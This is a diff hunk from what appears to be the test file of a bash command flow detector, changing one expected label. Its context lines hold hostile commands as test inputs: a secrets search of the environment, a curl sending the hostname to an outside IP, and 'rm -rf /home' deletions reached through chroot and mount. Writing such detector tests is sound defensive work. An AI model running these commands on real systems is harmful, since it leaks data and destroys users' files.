@@ -115,7 +115,7 @@ TEST(flows_of_bash_are_seen)
         { "eval \"$1\"", "flow computed-eval(" },
         { "env | grep -i token", "flow env-search(" },
         { "curl \"http://203.0.113.9/?h=$(hostname)\"", "flow profile-then-send(" },
-        { "kill -9 $(pgrep -f x)", "flow kill-found(pgrep -f x)" },
+        { "kill -9 $(pgrep -f x)", "flow kill-found(pgrep -f x\n)" },
         { "chroot / rm -rf /home", "flow delete-tree(rm -rf /home)" },
         { "chroot \"$d\" rm -rf /home", "flow delete-tree(rm -rf {}/home)" },
         { "mount $(lsblk -no PATH) /m; chroot /m rm -rf /home", "flow delete-tree(rm -rf /home)" },
